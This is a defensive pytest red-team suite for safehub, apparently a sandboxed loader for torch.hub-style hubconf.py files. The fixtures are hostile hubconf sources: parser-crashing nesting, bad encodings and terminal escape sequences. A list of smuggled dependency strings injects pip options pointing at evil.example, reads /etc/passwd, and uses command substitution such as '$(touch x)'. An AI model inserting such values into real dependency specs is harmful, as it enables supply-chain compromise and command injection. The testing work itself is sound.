"""Red team, host side before any sandbox: what a malicious repo author can do
with hubconf.py alone, through the real ``safehub.list`` / ``help`` / ``load``.

safehub reads hubconf.py with ``ast`` only; these hubconfs try to crash,
exhaust or confuse that reading, and to smuggle installer options through
``dependencies``. Every refusal must be a typed safehub error, raised before an
environment is built or a sandbox runs, and no payload may run on the host
(each payload aims at a canary file).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

import safehub
from safehub import EntrypointNotFoundError, EnvironmentBuildError, HubconfError, SafehubError

FORGE = Path(__file__).resolve().parent / "fixtures" / "redteam" / "forge"


def make_repo(tmp_path: Path, source: str | bytes, name: str = "repo") -> Path:
    repo = tmp_path / name
    repo.mkdir()
    data = source.encode() if isinstance(source, str) else source
    (repo / "hubconf.py").write_bytes(data)
    return repo


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    path = tmp_path / "CANARY"
    yield path
    assert not path.exists(), "a payload ran on the host"


def payload(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').write('pwned')\n"


# --- hubconf.py that breaks a naive static reader -----------------------------------

HOSTILE_SOURCES = {
    "null_byte": "def model():\n    pass\n\x00\n",
    "not_utf8": b"def model():\n    '''\xff\xfe\xfa'''\n",
    "bom_with_other_cookie": b"\xef\xbb\xbf# -*- coding: latin-1 -*-\ndef model(): pass\n",
    "unknown_coding_cookie": b"# -*- coding: rot13-evil -*-\ndef model(): pass\n",
    "too_many_parentheses": "x = " + "(" * 300 + "1" + ")" * 300 + "\ndef model(): pass\n",
    "too_deep_indentation": "".join(" " * i + "if 1:\n" for i in range(120)) + " " * 120 + "pass\n",
    "dependencies_not_literal": "dependencies = ['a'] + ['b']\ndef model(): pass\n",
    "dependencies_nested_list": "dependencies = " + "[" * 50 + "]" * 50 + "\ndef model(): pass\n",
    "dependency_with_newline": "dependencies = ['numpy\\n--index-url http://evil.example/simple']\ndef model(): pass\n",
    "dependency_too_long": "dependencies = ['" + "a" * 5000 + "']\ndef model(): pass\n",
    "too_many_dependencies": "dependencies = [" + ", ".join(f"'p{i}'" for i in range(1000)) + "]\n",
    "syntax_error_with_escapes": "def model(:\n    '\x1b[2J'\n",
}


@pytest.mark.parametrize("case", sorted(HOSTILE_SOURCES))
def test_hostile_hubconf_is_refused_typed(case, tmp_path, canary):
    source = HOSTILE_SOURCES[case]
    if isinstance(source, str):
        source = source + payload(canary)  # if anything executed the file, the canary appears
    repo = make_repo(tmp_path, source)
    with pytest.raises(HubconfError) as info:
        safehub.list(str(repo), source="local", verbose=False)
    assert "\x1b" not in str(info.value) and "\x00" not in str(info.value)


def test_oversized_hubconf_is_refused_before_parsing(tmp_path, canary):
    big = payload(canary) + "#" * (3 * 1024 * 1024) + "\ndef model(): pass\n"
    repo = make_repo(tmp_path, big)
    with pytest.raises(HubconfError, match="larger than"):
        safehub.list(str(repo), source="local", verbose=False)


# Deep nesting makes CPython's own parser give up with RecursionError or
# MemoryError (not SyntaxError); a long elif chain recurses in safehub's reader.
DEEP_SOURCES = {
    "deep_default_argument": "def model(a=" + "1+" * 50_000 + "1): pass\n",
    "deep_attribute_chain": "x = a" + ".b" * 100_000 + "\ndef model(): pass\n",
    "deep_unary_chain": "x = " + "-" * 100_000 + "1\ndef model(): pass\n",
    "deep_lambda_chain": "x = " + "lambda: " * 5_000 + "1\ndef model(): pass\n",
    "long_elif_chain": "if a:\n    def model(): pass\n" + "elif a:\n    def other(): pass\n" * 1_500,
}



@pytest.mark.parametrize("case", sorted(DEEP_SOURCES))
def test_deeply_nested_hubconf_is_a_hubconf_error(case, tmp_path, canary):
    repo = make_repo(tmp_path, DEEP_SOURCES[case] + payload(canary))
    with pytest.raises(HubconfError):
        safehub.list(str(repo), source="local", verbose=False)


def test_moderate_elif_chain_still_reads(tmp_path):
    """The fix for the case above must not refuse ordinary (if long) files."""
    src = "if a:\n    def model(): pass\n" + "elif a:\n    def other(): pass\n" * 200
    repo = make_repo(tmp_path, src)
    hub = safehub._hubconf.read_hubconf(repo)
    assert {"model", "other"} <= set(hub.entrypoints)


# --- dependencies that try to become installer options --------------------------------

SMUGGLED = [
    "--index-url=http://evil.example/simple",
    "--extra-index-url http://evil.example/simple",
    "-e .",
    "-r /etc/passwd",
    "-c /etc/passwd",
    "--config-settings=x",
    "numpy --index-url http://evil.example/simple",
    "numpy==1.0 --hash=sha256:00",
    "evil @ https://evil.example/evil-1.0-py3-none-any.whl",
    "evil@file:///tmp/evil",
    "file:///tmp/evil.whl",
    "https://evil.example/evil.whl",
    "git+https://github.com/evil/evil",
    "./evil",
    "../evil",
    "/tmp/evil",
    "numpy[security]",
    "numpy; os_name == 'posix'",
    "numpy>=1;python_version>'3'",
    "numpy==1.0\\",
    "numpy==$(touch x)",
    "numpy==`id`",
    "numpy==1.*,<2 --pre",
    "_private",
]


@pytest.mark.parametrize("dep", SMUGGLED)
def test_dependency_smuggling_is_refused_before_any_install(dep, tmp_path, canary, monkeypatch):
    hub_home = tmp_path / "home"
    monkeypatch.setenv("SAFEHUB_HOME", str(hub_home))
    src = f"dependencies = [{dep!r}]\n\ndef model():\n    {payload(canary)}"
    repo = make_repo(tmp_path, src)
    with pytest.raises((EnvironmentBuildError, HubconfError)) as info:
        safehub.load(str(repo), "model", source="local", verbose=False)
    assert "not acceptable" in str(info.value) or "not a valid" in str(info.value)
    envs = hub_home / "envs"
    assert not envs.exists() or not any(envs.iterdir()), "an environment was started for a refused dependency"
    assert not (hub_home / "jobs").exists() or not any((hub_home / "jobs").iterdir()), "a sandbox job was started"


# --- entrypoint names -----------------------------------------------------------------

@pytest.mark.parametrize(
    "name",
    ["__init__", "__builtins__", "os", "sys", "class", "forge.__globals__", "forge\n", "forge\x00",
     "../forge", "", "\x1b[2Jforge"],
)
def test_odd_entrypoint_names_never_reach_the_sandbox(name, tmp_path, monkeypatch):
    hub_home = tmp_path / "home"
    monkeypatch.setenv("SAFEHUB_HOME", str(hub_home))
    with pytest.raises(EntrypointNotFoundError) as info:
        safehub.load(str(FORGE), name, source="local", verbose=False)
    assert "\x1b" not in str(info.value) and "\x00" not in str(info.value)
    assert not (hub_home / "jobs").exists(), "a sandbox job was started for a name the static reading rules out"


def test_help_on_module_names_is_not_found():
    for name in ("os", "sys", "__doc__"):
        with pytest.raises(EntrypointNotFoundError):
            safehub.help(str(FORGE), name, source="local")



def test_private_functions_are_refused_statically(tmp_path, monkeypatch):
    """The runner refuses ``_``-names; the static check should too, before building an env
    and starting a sandbox (and help() should not document what load refuses)."""
    hub_home = tmp_path / "home"
    monkeypatch.setenv("SAFEHUB_HOME", str(hub_home))
    with pytest.raises(EntrypointNotFoundError):
        safehub.help(str(FORGE), "_do", source="local")
    with pytest.raises(EntrypointNotFoundError):
        safehub.load(str(FORGE), "_do", source="local", verbose=False)
    assert not (hub_home / "jobs").exists()


# --- terminal escapes in docstrings, through the CLI ------------------------------------

def test_cli_help_escapes_terminal_sequences_in_docstrings(tmp_path):
    env = {**os.environ, "SAFEHUB_HOME": str(tmp_path / "home")}
    for extra in ([], ["--json"]):
        proc = subprocess.run(
            [sys.executable, "-m", "safehub", "help", str(FORGE), "ansi", "--source", "local", *extra],
            capture_output=True, text=True, timeout=300, env=env,
        )
        assert proc.returncode == 0, proc.stderr[-2000:]
        assert "FAKE safehub" in proc.stdout  # the docstring is shown...
        assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout  # ...but not as terminal commands
        assert "\x1b" not in proc.stderr
        if extra:
            json.loads(proc.stdout)  # machine output stays parseable


def test_python_help_returns_the_docstring_verbatim_like_torch_hub():
    """safehub.help is an API (torch.hub returns ``__doc__`` unchanged); escaping is the printer's job."""
    doc = safehub.help(str(FORGE), "ansi", source="local")
    assert doc is not None and doc.startswith("Docstring with terminal escapes: \x1b]0;owned\x07")


def test_static_signature_text_is_escaped(tmp_path):
    src = textwrap.dedent(
        """
        def model(a='\\x1b[2J\\x1b]0;owned\\x07', *, b='\\u202eevil'):
            pass
        """
    )
    repo = make_repo(tmp_path, src)
    hub = safehub._hubconf.read_hubconf(repo)
    sig = hub.entrypoints["model"].signature
    assert sig is not None and "\x1b" not in sig and "\x07" not in sig and "\u202e" not in sig
